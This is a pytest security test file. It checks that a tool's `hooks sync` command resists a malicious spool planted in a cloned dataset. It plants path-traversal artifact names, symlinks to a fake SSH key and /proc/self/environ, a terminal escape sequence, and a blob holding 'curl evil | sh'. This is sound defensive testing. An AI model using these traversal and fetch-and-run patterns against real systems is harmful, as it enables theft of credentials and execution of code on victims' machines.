"""`hooks sync` and a spool from someone else (issue 21, part 1): a spool planted in a cloned dataset
under the working folder may read, write, delete or send nothing outside itself. Each test plants a
real spool folder in tmp_path, keeps a secret file beside it (standing for ~/.ssh/id_rsa), runs the
real `hooks sync` against the user's real MLflow server, and checks that the secret was not read
(not among the run's artifacts, its text nowhere in the server's store), not written or deleted
(content and mtime), that a second real server that the planted run.json names got no run, and that
the spool's good records arrived exactly once."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from hooks.sinks.mlflow.sender import sync
from hooks.sinks.mlflow.spool import MAX_DEPTH, MAX_RUN_BYTES
from tests.mlflow_server import MlflowServer

HOOKS = Path(sys.executable).parent / "hooks"
GOOD = [
    {"p": {"good": "yes"}},
    {"m": [["good/loss", 0.5, 1_700_000_000_000, 1]]},
    {"t": {"good_tag": "kept"}},
]
END = {"end": "FINISHED", "ts": 1_700_000_001_000}


@pytest.fixture(scope="module")
def attacker(tmp_path_factory: pytest.TempPathFactory) -> Iterator[MlflowServer]:
    """The server a planted run.json names: it must never get a run."""
    with MlflowServer(tmp_path_factory.mktemp("attacker-server")) as server:
        yield server


@dataclass
class Planted:
    work: Path  # the victim's working folder
    spool: Path  # work/dataset/.yaml-hooks/mlflow/evil
    secret: Path  # stands for ~/.ssh/id_rsa
    text: str
    mtime: int
    experiment: str

    def line(self, op: Any) -> bytes:
        return op if isinstance(op, bytes) else (op if isinstance(op, str) else json.dumps(op)).encode()

    def write(self, ops: list[Any], uri: str, **run: Any) -> None:
        run = {"tracking_uri": uri, "experiment": self.experiment, "name": "planted", **run}
        (self.spool / "run.json").write_text(json.dumps(run))
        (self.spool / "ops.jsonl").write_bytes(b"".join(self.line(op) + b"\n" for op in ops))


@pytest.fixture
def planted(tmp_path: Path) -> Planted:
    secret = tmp_path / "home" / ".ssh" / "id_rsa"
    secret.parent.mkdir(parents=True)
    text = f"-----BEGIN OPENSSH PRIVATE KEY----- {uuid.uuid4().hex} -----END"
    secret.write_text(text)
    os.utime(secret, ns=(1_600_000_000_000_000_000, 1_600_000_000_000_000_000))
    work = tmp_path / "work"
    spool = work / "dataset" / ".yaml-hooks" / "mlflow" / "evil"
    (spool / "blobs").mkdir(parents=True)
    return Planted(work, spool, secret, text, secret.stat().st_mtime_ns, f"planted-{uuid.uuid4().hex[:8]}")


def hooks_sync(p: Planted, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """A plain `hooks sync` in the victim's working folder (no MLflow variables but those given)."""
    clean = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")}
    return subprocess.run(
        [str(HOOKS), "sync", *args],
        cwd=p.work,
        env={**clean, **(env or {})},
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )


def runs_of(server: MlflowServer) -> list[Any]:
    client = server.client()
    ids = [e.experiment_id for e in client.search_experiments()]
    return list(client.search_runs(ids)) if ids else []


def artifacts(client: Any, run_id: str, path: str | None = None) -> list[str]:
    found: list[str] = []
    for f in client.list_artifacts(run_id, path):
        found += artifacts(client, run_id, f.path) if f.is_dir else [f.path]
    return found


def assert_untouched(p: Planted, server: MlflowServer, attacker: MlflowServer) -> None:
    """The secret is where it was, as it was; its text is nowhere in the user's server's store;
    the attacker's server has no run."""
    assert p.secret.read_text() == p.text and p.secret.stat().st_mtime_ns == p.mtime
    for f in server.folder.rglob("*"):
        if f.is_file() and not f.is_symlink():
            assert p.text.encode() not in f.read_bytes(), f
    assert runs_of(attacker) == []


def the_good_records_arrived_once(p: Planted, server: MlflowServer) -> Any:
    client = server.client()
    exp = client.get_experiment_by_name(p.experiment)
    assert exp is not None, "the good records did not arrive"
    (run,) = client.search_runs([exp.experiment_id])
    assert [(m.step, m.value) for m in client.get_metric_history(run.info.run_id, "good/loss")] == [(1, 0.5)]
    assert run.data.params["good"] == "yes" and run.data.tags["good_tag"] == "kept"
    return run


def no_traceback(done: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in done.stderr + done.stdout, done.stderr[-3000:]


# ---------------------------------------------------------------- where it is sent
def test_a_spool_naming_another_server_sends_nothing_there(
    planted: Planted, mlflow_server: MlflowServer, attacker: MlflowServer
) -> None:
    planted.write([*GOOD, {"a": ["", "id_rsa", str(planted.secret), False]}, END], attacker.uri)
    for named in ([], ["--tracking-uri", mlflow_server.uri]):  # nothing named, and the user's server named
        done = hooks_sync(planted, *named)
        no_traceback(done)
        assert done.returncode == 1, done.stdout
        assert f"its run.json names {attacker.uri}" in done.stdout
        assert f"hooks sync --tracking-uri {attacker.uri} {Path('dataset/.yaml-hooks/mlflow/evil')}" in done.stdout
    # $MLFLOW_TRACKING_URI is the user naming a server, as the option is.
    done = hooks_sync(planted, env={"MLFLOW_TRACKING_URI": mlflow_server.uri})
    assert done.returncode == 1 and f"its run.json names {attacker.uri}" in done.stdout
    assert_untouched(planted, mlflow_server, attacker)
    assert mlflow_server.client().get_experiment_by_name(planted.experiment) is None
    assert (planted.spool / "ops.jsonl").exists()  # nothing sent, nothing deleted


def test_credentials_in_the_uri_a_spool_names_are_masked(
    planted: Planted, mlflow_server: MlflowServer, attacker: MlflowServer
) -> None:
    with_password = attacker.uri.replace("http://", "http://mallory:hunter2@")
    planted.write([*GOOD, END], with_password)
    done = hooks_sync(planted, "--tracking-uri", mlflow_server.uri.replace("http://", "http://me:s3cret@"))
    assert done.returncode == 1
    assert "hunter2" not in done.stdout + done.stderr and "s3cret" not in done.stdout + done.stderr
    assert attacker.uri.replace("http://", "http://***@") in done.stdout
    assert runs_of(attacker) == []


def test_the_uri_the_user_names_lets_a_spool_through(planted: Planted, mlflow_server: MlflowServer) -> None:
    planted.write([*GOOD, END], mlflow_server.uri + "/")
    done = hooks_sync(planted, "--tracking-uri", mlflow_server.uri)
    no_traceback(done)
    assert done.returncode == 0, done.stdout
    assert the_good_records_arrived_once(planted, mlflow_server).info.status == "FINISHED"
    assert not planted.spool.exists()  # all sent: the spool is gone


def test_a_spool_makes_versions_only_of_a_model_the_user_names(planted: Planted, mlflow_server: MlflowServer) -> None:
    """A planted spool that registers a file as the team's model and moves its `champion` alias
    (which whoever loads models:/team-model@champion would then run) sends nothing unless the user
    names that model; named, it goes, once."""
    model = f"team-model-{planted.experiment}"
    register = {"r": ["good.txt", model, {"aliases": {"champion": "newest"}}]}
    planted.write([*GOOD, register, END], mlflow_server.uri)
    refused = hooks_sync(planted, "--tracking-uri", mlflow_server.uri)
    no_traceback(refused)
    assert refused.returncode == 1
    assert f"it makes versions of the registered model(s) '{model}'" in refused.stdout
    assert f"--register {model} dataset/.yaml-hooks/mlflow/evil" in refused.stdout  # the command letting it through
    client = mlflow_server.client()
    assert client.get_experiment_by_name(planted.experiment) is None and planted.spool.exists()  # nothing sent
    assert client.search_model_versions(f"name = '{model}'") == []
    done = hooks_sync(planted, "--tracking-uri", mlflow_server.uri, "--register", model)
    no_traceback(done)
    assert done.returncode == 0, done.stdout
    run = the_good_records_arrived_once(planted, mlflow_server)
    (version,) = client.search_model_versions(f"name = '{model}'")
    assert (version.source, version.run_id) == (f"runs:/{run.info.run_id}/good.txt", run.info.run_id)
    assert client.get_model_version_by_alias(model, "champion").version == version.version


# ---------------------------------------------------------------- what it reads
def test_an_artifact_outside_the_spools_folders_is_not_read(
    planted: Planted, mlflow_server: MlflowServer, attacker: MlflowServer
) -> None:
    dataset = planted.spool.parents[2]
    (dataset / "leak.txt").symlink_to(planted.secret)  # a link inside the training's folder
    (planted.spool / "blobs" / "1-key.txt").symlink_to(planted.secret)  # an owned "copy" that is a link
    (dataset / "sub").symlink_to(planted.secret.parent, target_is_directory=True)  # a linked folder
    planted.write(
        [
            *GOOD,
            {"a": ["", "id_rsa", str(planted.secret), False]},
            {"a": ["", "environ", "/proc/self/environ", False]},
            {"a": ["", "leak.txt", str(dataset / "leak.txt"), False]},
            {"a": ["", "key.txt", str(planted.spool / "blobs" / "1-key.txt"), True]},
            {"a": ["", "id_rsa", str(dataset / "sub" / "id_rsa"), False]},
            {"a": ["", "up", str(dataset / ".." / "home" / ".ssh" / "id_rsa"), False]},
            {"a": ["", "esc", "/tmp/\x1b]0;pwned\x07", False]},  # an escape sequence reaches no terminal
            END,
        ],
        mlflow_server.uri,
    )
    token = uuid.uuid4().hex  # in the environment `hooks sync` runs in: /proc/self/environ holds it
    done = hooks_sync(planted, "--tracking-uri", mlflow_server.uri, env={"AWS_SECRET_ACCESS_KEY": token})
    no_traceback(done)
    assert done.returncode == 1, done.stdout
    ops = Path("dataset/.yaml-hooks/mlflow/evil/ops.jsonl")
    for line in (4, 5, 9, 10):  # refused as records: outside the training's folder
        assert f"{ops}:{line}: " in done.stdout, done.stdout
    run = the_good_records_arrived_once(planted, mlflow_server)
    assert artifacts(mlflow_server.client(), run.info.run_id) == []
    assert (planted.spool / "rejected.jsonl").read_text().count("\n") == 7  # each listed with why
    assert "\x1b" not in done.stdout and "/tmp/?]0;pwned?" in done.stdout
    assert_untouched(planted, mlflow_server, attacker)
    assert not any(token.encode() in f.read_bytes() for f in mlflow_server.folder.rglob("*") if f.is_file())


def test_a_named_pipe_or_a_link_to_dev_zero_is_refused_within_a_second(
    planted: Planted, mlflow_server: MlflowServer, attacker: MlflowServer
) -> None:
    cases = [
        ("run.json", "fifo", "is not a regular file (a named pipe)"),
        ("run.json", "zero", "is a link"),
        ("ops.jsonl", "fifo", "is not a regular file (a named pipe)"),
        ("ops.jsonl", "zero", "is a link"),
        ("run.json", "big", f"over the limit of {MAX_RUN_BYTES}"),
    ]
    for name, kind, message in cases:
        planted.write([*GOOD, END], mlflow_server.uri)
        target = planted.spool / name
        target.unlink()
        if kind == "fifo":
            os.mkfifo(target)
        elif kind == "zero":
            target.symlink_to("/dev/zero")
        else:
            target.write_text(json.dumps({"name": "x" * MAX_RUN_BYTES}))
        result: list[tuple[bool, str]] = []
        began = time.monotonic()
        worker = threading.Thread(target=_sync_into, args=(result, planted.spool, mlflow_server.uri), daemon=True)
        worker.start()
        worker.join(1.0)
        assert not worker.is_alive(), f"{name} as {kind}: still reading after a second"
        assert time.monotonic() - began < 1.0
        ((done, line),) = result
        assert not done and message in line and str(target) in line, (name, kind, line)
        target.unlink()
    assert mlflow_server.client().get_experiment_by_name(planted.experiment) is None
    assert_untouched(planted, mlflow_server, attacker)


def _sync_into(result: list[tuple[bool, str]], folder: Path, uri: str) -> None:
    result.append(sync(folder, uri))


# ---------------------------------------------------------------- what it deletes and writes
def test_a_file_the_spool_does_not_own_is_never_deleted(
    planted: Planted, mlflow_server: MlflowServer, attacker: MlflowServer
) -> None:
    inside = planted.spool.parents[2] / "data.yaml"  # a file of the training's folder, uploaded in place
    inside.write_text("names: [cat]\n")
    planted.write(
        [
            *GOOD,
            {"a": ["", "id_rsa", str(planted.secret), True]},  # "owned", but not the spool's copy
            {"a": ["", "data.yaml", str(inside), True]},  # "owned", in the training's folder
            END,
        ],
        mlflow_server.uri,
    )
    done = hooks_sync(planted, "--tracking-uri", mlflow_server.uri)
    no_traceback(done)
    assert done.returncode == 1
    assert f"{Path('dataset/.yaml-hooks/mlflow/evil/ops.jsonl')}:4: " in done.stdout
    assert "is marked as the spool's own copy but is not in its blobs/ folder" in done.stdout
    assert inside.read_text() == "names: [cat]\n"
    the_good_records_arrived_once(planted, mlflow_server)
    assert_untouched(planted, mlflow_server, attacker)


def test_an_artifact_name_cannot_write_outside_the_spool(
    planted: Planted, mlflow_server: MlflowServer, attacker: MlflowServer
) -> None:
    bashrc = planted.secret.parent.parent / ".bashrc"
    bashrc.write_text("# mine\n")
    os.utime(bashrc, ns=(1_600_000_000_000_000_000, 1_600_000_000_000_000_000))
    (planted.spool / "blobs" / "1-payload").write_text("curl evil | sh\n")
    blob = str(planted.spool / "blobs" / "1-payload")
    planted.write(
        [
            *GOOD,
            {"a": ["", str(bashrc), blob, True]},  # an absolute name
            {"a": ["", "../../.bashrc", blob, True]},
            {"a": ["../../..", "x", blob, True]},
            {"a": ["C:", "x", blob, True]},
            {"a": ["", "..", blob, True]},
            {"r": ["../x", "model"]},
            END,
        ],
        mlflow_server.uri,
    )
    done = hooks_sync(planted, "--tracking-uri", mlflow_server.uri)
    no_traceback(done)
    assert done.returncode == 1
    for line in range(4, 10):
        assert f"{Path('dataset/.yaml-hooks/mlflow/evil/ops.jsonl')}:{line}: " in done.stdout, done.stdout
    assert "artifact names are relative and plain" in done.stdout
    assert bashrc.read_text() == "# mine\n" and bashrc.stat().st_mtime_ns == 1_600_000_000_000_000_000
    assert (planted.spool / "blobs" / "1-payload").exists()  # not sent, so not deleted
    run = the_good_records_arrived_once(planted, mlflow_server)
    assert artifacts(mlflow_server.client(), run.info.run_id) == []
    assert not any("curl evil" in f.read_text(errors="replace") for f in mlflow_server.folder.rglob("*") if f.is_file())
    assert_untouched(planted, mlflow_server, attacker)


def test_an_owned_copy_in_the_spool_is_sent_once_and_deleted(planted: Planted, mlflow_server: MlflowServer) -> None:
    """What a training writes passes: its own copy is uploaded under its name, then deleted."""
    (planted.spool / "blobs" / "1-results.png").write_bytes(b"\x89PNG fine")
    (planted.spool.parents[2] / "weights").mkdir()
    (planted.spool.parents[2] / "weights" / "best.pt").write_bytes(b"weights")
    planted.write(
        [
            *GOOD,
            {"a": ["plots", "results.png", str(planted.spool / "blobs" / "1-results.png"), True]},
            {"a": ["weights", "best.pt", str(planted.spool.parents[2] / "weights" / "best.pt"), False]},
            END,
        ],
        mlflow_server.uri,
    )
    done = hooks_sync(planted, "--tracking-uri", mlflow_server.uri)
    assert done.returncode == 0, done.stdout + done.stderr
    run = the_good_records_arrived_once(planted, mlflow_server)
    assert sorted(artifacts(mlflow_server.client(), run.info.run_id)) == ["plots/results.png", "weights/best.pt"]
    assert (planted.spool.parents[2] / "weights" / "best.pt").read_bytes() == b"weights"  # not the spool's: kept
    assert not planted.spool.exists()


# ---------------------------------------------------------------- what it parses
def test_malformed_records_are_error_lines_with_their_line_numbers_and_the_rest_is_sent(
    planted: Planted, mlflow_server: MlflowServer, attacker: MlflowServer
) -> None:
    bad: list[Any] = [
        {},
        {"zz": 1},
        {"m": "x", "p": {}},
        {"m": [["k", "not a number", 1, 2]]},
        {"m": [["k", 1.0, 1]]},
        {"p": {"k": 1}},
        {"t": ["k"]},
        {"a": [1, 2]},
        {"a": ["", "x", "blobs/x", "yes"]},
        {"r": ["x"]},
        {"end": "FINISHED", "extra": 1},
        {"end": "DONE"},
        [1, 2],
        "not json {",
        "[" * 100_000 + "]" * 100_000,
        b'"\xff"',  # not UTF-8
    ]
    planted.write([GOOD[0], *bad, *GOOD[1:], END], mlflow_server.uri)
    done = hooks_sync(planted, "--tracking-uri", mlflow_server.uri)
    no_traceback(done)
    assert done.returncode == 1, done.stdout
    ops = Path("dataset/.yaml-hooks/mlflow/evil/ops.jsonl")
    reported = [line for line in done.stdout.splitlines() if line.startswith(f"{ops}:")]
    assert [int(line.split(":")[1]) for line in reported] == list(range(2, 2 + len(bad)))
    assert f"nested deeper than the limit of {MAX_DEPTH} levels" in done.stdout
    run = the_good_records_arrived_once(planted, mlflow_server)
    assert run.info.status == "FINISHED"
    assert "1 not sent" not in done.stdout and f"{len(bad)} not sent (bad or refused for good)" in done.stdout
    again = hooks_sync(planted, "--tracking-uri", mlflow_server.uri)  # the bad ones stay listed, nothing twice
    assert again.returncode == 1
    the_good_records_arrived_once(planted, mlflow_server)
    assert_untouched(planted, mlflow_server, attacker)


def test_malformed_run_json_is_one_error_line(planted: Planted, mlflow_server: MlflowServer) -> None:
    for run in ('{"tracking_uri": 5}', '{"nope": 1}', "[]", "{" * 10_000, "not json"):
        planted.write([*GOOD, END], mlflow_server.uri)
        (planted.spool / "run.json").write_text(run)
        done = hooks_sync(planted, "--tracking-uri", mlflow_server.uri)
        no_traceback(done)
        assert done.returncode == 1 and "run.json" in done.stdout, (run, done.stdout)
    assert mlflow_server.client().get_experiment_by_name(planted.experiment) is None
